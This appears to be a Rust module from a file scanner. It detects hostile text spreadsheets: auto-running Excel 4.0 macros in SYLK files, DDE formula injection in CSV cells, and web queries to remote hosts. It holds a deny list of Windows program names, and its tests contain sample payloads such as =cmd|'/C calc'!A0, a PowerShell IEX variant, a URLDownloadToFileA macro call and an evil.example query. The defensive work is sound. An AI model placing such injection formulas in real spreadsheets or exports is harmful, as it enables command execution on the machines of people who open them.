//! Tables that are text: SYLK, CSV and web queries. Excel opens them by a double click, and what stands in a cell may
//! be a macro of Excel 4.0, or a question to another program (DDE).

use super::remote_kind;
use crate::structure::Check;

/// Bytes of one file that are read.
const FILE_BYTES_MAX: usize = 16 << 20;
/// Places of one file that are looked at.
const PLACES_MAX: usize = 2000;
/// Bytes around a place that are looked at: a cell holds no more.
const CELL_BYTES_MAX: usize = 1000;
/// Things found of one file that are kept.
const FOUND_MAX: usize = 20;
/// Characters of a cell that are shown.
const SHOWN_CHARS: usize = 120;
/// Functions of Excel 4.0 that start programs, call libraries or write files; none of them is one of a formula.
const ACTING: [&str; 8] =
    ["EXEC(", "CALL(", "REGISTER(", "REGISTER.ID(", "FOPEN(", "FWRITE(", "FWRITELN(", "SEND.KEYS("];
/// Programs that a table has no question to.
const PROGRAMS: [&str; 24] = [
    "cmd",
    "powershell",
    "pwsh",
    "mshta",
    "msexcel",
    "rundll32",
    "regsvr32",
    "wscript",
    "cscript",
    "certutil",
    "bitsadmin",
    "explorer",
    "msiexec",
    "wmic",
    "winword",
    "ftp",
    "curl",
    "calc",
    "notepad",
    "hh",
    "control",
    "schtasks",
    "wsl",
    "iexplore",
];

/// What is found in a table that is text; `bytes` may be any text. Nothing is found in what is none.
pub fn look(bytes: &[u8]) -> Vec<(Check, String)> {
    let bytes = &bytes[..bytes.len().min(FILE_BYTES_MAX)];
    // Excel reads over zeros.
    let text = crate::page::html::decoded(bytes).replace('\0', "");
    let head = text.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']);
    let begins = |mark: &str| head.get(..mark.len()).is_some_and(|head| head.eq_ignore_ascii_case(mark));
    let mut found = if begins("ID;") { sylk(head) } else { Vec::new() };
    if begins("WEB\r") || begins("WEB\n") {
        found.extend(query(head));
    }
    if found.is_empty() {
        // A table whose first column is called ID begins as one of symbols does.
        found = dde(&text);
    }
    found.truncate(FOUND_MAX);
    found.into_iter().map(|(check, evidence)| (check, crate::mime::clean(&evidence))).collect()
}

/// Whether another program is asked by a name and a topic, and it is one that runs what it is told.
pub(super) fn starts_program(service: &str, topic: &str) -> bool {
    let service = service.trim().trim_matches(['"', '\'']).to_lowercase();
    let program = service.rsplit(['\\', '/']).next().unwrap_or_default();
    let program = program.strip_suffix(".exe").unwrap_or(program);
    let topic = topic.to_lowercase();
    PROGRAMS.contains(&program) || topic.contains(".exe") || topic.contains("\\..\\") || topic.contains("powershell")
}

/// A workbook in symbols (SYLK): records of a line, their fields between semicolons. `NN` names a place, `C` is a cell,
/// its `E` a formula.
fn sylk(text: &str) -> Vec<(Check, String)> {
    let (mut starts, mut acts, mut found) = (None, None, Vec::new());
    let mut is_macro = false;
    for line in text.split(['\r', '\n']).filter(|line| !line.is_empty()).take(1_000_000) {
        let mut fields = line.split(';');
        match fields.next().unwrap_or_default().trim().to_ascii_uppercase().as_str() {
            "NN" => {
                let mut names = fields.filter_map(|field| field.strip_prefix(['N', 'n']));
                starts = starts.or_else(|| names.find(|name| is_automatic(name)).map(str::to_owned));
            }
            "O" => is_macro |= fields.any(|field| field.trim().eq_ignore_ascii_case("E")),
            "C" | "F" => {
                let upper = line.to_ascii_uppercase().replace(' ', "");
                acts = acts.or_else(|| {
                    ACTING.into_iter().find(|word| {
                        upper.contains(&format!("E{word}"))
                            || upper.contains(&format!("={word}"))
                            || upper.contains(&format!("({word}"))
                            || upper.contains(&format!(",{word}"))
                    })
                });
                let formulas = fields.filter_map(|field| field.strip_prefix(['E', 'e'])).take(FOUND_MAX - found.len());
                found.extend(formulas.flat_map(|formula| dde(&format!("={formula}"))));
                found.truncate(FOUND_MAX);
            }
            _ => {}
        }
    }
    let said = match (starts, acts) {
        (Some(name), _) => {
            Some((Check::MacroActs, format!("{} starts by itself in a table of symbols", clipped(&name))))
        }
        (None, Some(word)) => {
            Some((Check::MacroActs, format!("a macro of Excel 4.0 in a table of symbols; it uses {word}")))
        }
        (None, None) => is_macro.then(|| (Check::MacroAutomatic, "a table of symbols is a sheet of macros".to_owned())),
    };
    found.extend(said);
    found
}

/// Names at which a workbook starts a macro by itself.
pub(super) fn is_automatic(name: &str) -> bool {
    let name = name.to_lowercase();
    let name = name.trim_start_matches("_xlnm.");
    ["auto_open", "auto_close", "auto_activate", "auto_deactivate"].iter().any(|start| name.starts_with(start))
}

/// A web query (`.iqy`): Excel loads what its third line says.
fn query(text: &str) -> Vec<(Check, String)> {
    let target = text.lines().map(str::trim).skip(1).find(|line| line.contains("://") || line.starts_with("\\\\"));
    target.map(|target| remote_kind("a query", target)).into_iter().collect()
}

/// Questions to another program in cells that begin as formulas do: `=cmd|'/C calc'!A0`, `@SUM(1)*cmd|...`.
fn dde(text: &str) -> Vec<(Check, String)> {
    let mut found = Vec::new();
    for at in memchr::memchr_iter(b'|', text.as_bytes()).take(PLACES_MAX) {
        let from = text.ceil_char_boundary(at.saturating_sub(CELL_BYTES_MAX));
        let to = text.floor_char_boundary((at + CELL_BYTES_MAX).min(text.len()));
        let (before, behind) = (&text[from..at], &text[at + 1..to]);
        let before = &before[before.rfind(['\r', '\n']).map_or(0, |line| line + 1)..];
        let service = before.trim_end_matches([' ', '"', '\'']);
        let start = service.rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '\\' | ':' | '/')));
        let service = &service[start.map_or(0, |edge| service.ceil_char_boundary(edge + 1))..];
        let Some(topic) = topic(behind) else { continue };
        if begins_formula(before) && starts_program(service, topic) {
            let cell = format!("{service}|{topic}");
            found.push((Check::Dde, clipped(&cell)));
        }
        if found.len() >= FOUND_MAX {
            break;
        }
    }
    // LibreOffice has a function for it.
    let upper = text.get(..text.floor_char_boundary(text.len().min(1 << 20))).unwrap_or_default().to_ascii_uppercase();
    for (at, _) in upper.match_indices("DDE(").take(PLACES_MAX) {
        let behind = &text[at + 4..text.floor_char_boundary((at + CELL_BYTES_MAX).min(text.len()))];
        let before = &text[text.ceil_char_boundary(at.saturating_sub(CELL_BYTES_MAX))..at];
        let before = &before[before.rfind(['\r', '\n']).map_or(0, |line| line + 1)..];
        let mut words = behind.split([';', ',', ')']).map(|word| word.trim().trim_matches('"'));
        let (service, topic) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
        if begins_formula(before) && starts_program(service, topic) && found.len() < FOUND_MAX {
            found.push((Check::Dde, clipped(&text[at..at + 4 + behind.len()])));
        }
    }
    found
}

/// The topic of a question: what stands between the stroke and the exclamation mark, in quotes or in one word.
fn topic(behind: &str) -> Option<&str> {
    let behind = behind.trim_start();
    if let Some(quoted) = behind.strip_prefix('\'') {
        let (topic, rest) = quoted.split_once('\'')?;
        // A quote inside is written twice.
        return rest.trim_start_matches('\'').contains('!').then_some(topic);
    }
    let end = behind.find('!')?;
    let topic = &behind[..end];
    (!topic.contains(|c: char| c.is_whitespace() || matches!(c, ',' | ';'))).then_some(topic)
}

/// Whether a cell of the line before a place begins as a formula does. Where it begins depends on the separator, which
/// is not known.
fn begins_formula(before: &str) -> bool {
    let is_sign = |cell: &str| cell.trim_start_matches([' ', '"', '\'']).starts_with(['=', '+', '-', '@']);
    before.split([',', ';', '\t']).any(is_sign)
}

fn clipped(text: &str) -> String {
    text.chars().filter(|c| !c.is_control()).take(SHOWN_CHARS).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn checks(text: &str) -> Vec<Check> {
        look(text.as_bytes()).into_iter().map(|(check, _)| check).collect()
    }

    #[test]
    fn tables_of_symbols_that_act() {
        use Check as C;
        for text in [
            "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"calc\")\r\nE\r\n",
            "id;p\nNN;NAUTO_OPEN1;ER1C1;KOut\nC;X1;Y1;K0;ECALL(\"urlmon\",\"URLDownloadToFileA\")\nE",
            "ID;PWXL;N;E\nC;X1;Y1;EIF(TRUE,EXEC(\"x\"))",
        ] {
            assert_eq!(checks(text), [C::MacroActs], "{text}");
        }
        assert_eq!(checks("ID;P\nC;X1;Y1;K0;Ecmd|'/C calc'!A0"), [C::Dde]);
        // Nobody has written macros of Excel 4.0 for their own use since 1993.
        assert_eq!(checks("ID;P\nNN;NAuto_Open;ER1C1\nC;X1;Y1;K1"), [C::MacroActs]);
        assert_eq!(checks("ID;P\nO;E\nC;X1;Y1;K1"), [C::MacroAutomatic]);
        assert_eq!(checks("ID;name\n1;=cmd|'/C calc'!A0"), [C::Dde]);
        for text in [
            "ID;PWXL;N;E\nP;PGeneral\nC;Y1;X1;K\"Name\"\nC;Y2;X1;K7;ESUM(R1C1:R1C2)\nE",
            "ID;P\nC;Y1;X1;K\"EXEC( is a function\"",
            "ID;name\n1;Anna\n2;Bert",
        ] {
            assert_eq!(checks(text), [], "{text}");
        }
    }

    #[test]
    fn questions_to_other_programs_in_tables() {
        use Check as C;
        for text in [
            "a,b\n=cmd|'/C calc'!A0,1",
            "a;b\n1;\"=cmd|' /C calc'!'A0'\"",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "x\t+cmd|'/C powershell IEX(x)'!A0",
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
            "=10+20+CMD.EXE|'/C calc'!A0",
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
            "=c\0md|'/C calc'!A0",
            "=HYPERLINK(\"x\")+ cmd|'/C calc'!A",
        ] {
            assert_eq!(checks(text), [C::Dde], "{text}");
        }
        for text in [
            "=HYPERLINK(\"https://www.example.com/\",\"site\")",
            "=SUM(A1)\n=A1&\"|\"&B1",
            "name,command\nlist,ls -l | grep cmd|more",
            "-cmd,-x|y",
            "a|b|c\n=1|2!3",
            "=BLP|M!'EURUSD'",
            "cmd|'/C calc'!A0",
            "",
        ] {
            assert_eq!(checks(text), [], "{text}");
        }
    }

    #[test]
    fn queries_of_strangers() {
        use Check as C;
        assert_eq!(checks("WEB\r\n1\r\nhttps://evil.example/a.dat\r\n"), [C::DocumentRemote]);
        assert_eq!(checks("WEB\n1\nhttp://intranet/figures"), [C::DocumentLink]);
    }

    proptest! {
        #[test]
        fn whatever_the_text_the_look_ends(
            text in "(ID;P|NN;N|C;X1;|E|auto_open|EXEC\\(|=|cmd|\\||'|!|\"|[,;\r\n\t]|DDE\\(|WEB\n|\u{e9}|a){0,60}"
        ) {
            prop_assert!(look(text.as_bytes()).len() <= FOUND_MAX);
        }
    }
}
